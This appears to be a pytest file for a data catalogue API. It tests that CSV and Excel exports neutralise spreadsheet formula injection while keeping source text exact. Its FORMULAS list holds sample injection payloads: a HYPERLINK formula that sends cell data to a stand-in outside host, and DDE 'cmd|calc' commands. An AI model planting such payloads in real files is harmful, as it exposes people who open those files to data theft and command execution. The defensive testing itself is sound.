"""Threat 7: what others wrote is no formula in a table made for people, and exact in a table made for machines."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from api.app import create_app
from api.gateway import Gateway
from api.spreadsheet_texts import as_text
from catalogue import findings, registry
from catalogue.database import unit_of_work
from catalogue.datasets import put_dataset
from catalogue.models import Organisation
from schemas.findings import Finding, Location
from schemas.messages import Message
from tests.api.caller import Caller
from tests.api.three_datasets import OPEN, OWNERS, basis, draft, figures, publish_figures
from tests.attacks.one_database import database_kind

assert database_kind

FORMULAS = (
    '=HYPERLINK("https://elsewhere.example/?"&A1;"see")', "-2+3", "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "=cmd|'/c calc'!A1", "＝1+1", "-@x", "=1\r\n=2",
)  # fmt: skip
NUMBERS = ("-2", "+3,5", "-1.234,50", "-12 %", "-", "1e5", "41.280")


@pytest.fixture
def client(gateway: Gateway, now: datetime) -> Caller:
    """A node whose open dataset holds formulas wherever a source writes."""
    with unit_of_work(gateway.engine) as session:
        registry.put_organisation(session, Organisation(id=OWNERS[OPEN], name={"en": FORMULAS[0]}))
        put_dataset(session, replace(draft(OPEN), attribution=FORMULAS[0]), record_snapshot="", now=now)
        first = figures(OPEN)[0]
        rows = [
            replace(first, key=replace(first.key, period=str(1990 + number)), comment=text, raw_value=text,
                    source_cell=text, value=Decimal(-number))
            for number, text in enumerate((*FORMULAS, *NUMBERS))
        ]  # fmt: skip
        publish_figures(session, gateway.store, OPEN, rows, now)
        found = [
            Finding(
                "S2", "warning", Location(f"{number}", text), text, Message("page.yes"), Message("page.no")
            )
            for number, text in enumerate((*FORMULAS, *NUMBERS))
        ]
        findings.record(session, f"{OPEN}/all", OPEN, found, now)
    return Caller(create_app(gateway))


def _lines(client: Caller, path: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(client.get(path).text, newline="")))


def test_a_table_for_machines_says_what_the_source_said(client: Caller) -> None:
    lines = _lines(client, "/api/v1/observations?format=csv")
    assert {line["comment"] for line in lines} == {*FORMULAS, *NUMBERS}
    assert {line["raw_value"] for line in lines} == {*FORMULAS, *NUMBERS}
    assert basis(OPEN) in {line["basis"] for line in lines}


def test_a_table_of_findings_runs_nothing_and_gives_the_texts_back(client: Caller) -> None:
    cells = [
        line[name] for line in _lines(client, "/api/v1/findings?format=csv") for name in ("found", "cell")
    ]
    assert len(cells) == 2 * len((*FORMULAS, *NUMBERS))
    assert not [cell for cell in cells if cell.lstrip()[:1] in "=@＝" and cell]
    assert {cell.removeprefix("'") for cell in cells} == {*FORMULAS, *NUMBERS}
    assert {cell for cell in cells if not cell.startswith("'")} == set(NUMBERS)


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n 1,.%a'＝＋"), max_size=8))
def test_no_text_begins_a_formula_and_none_is_lost(text: str) -> None:
    written = as_text(text)
    assert written in (text, f"'{text}")
    begins = written.lstrip()[:1]
    assert not begins or begins not in "=@＝＋" or not written.strip()
    if begins in ("+", "-") and begins:
        assert set(written) <= set("+-0123456789.,% \t\r\n")


def test_a_workbook_holds_no_formula(client: Caller) -> None:
    answer = client.get("/api/v1/coverage?place=SI_052&format=xlsx")
    book = load_workbook(io.BytesIO(answer.content))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"n", "s", "inlineStr"}


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/api/v1/observations?format=csv", "observations.csv"),
        ("/api/v1/findings?format=csv", "findings.csv"),
        ("/api/v1/coverage?place=SI_052&format=csv", "coverage.csv"),
    ],
)
def test_a_table_is_saved_and_never_drawn_as_part_of_our_site(client: Caller, path: str, name: str) -> None:
    for _ in range(2):
        assert client.get(path).headers["content-disposition"] == f'attachment; filename="{name}"'
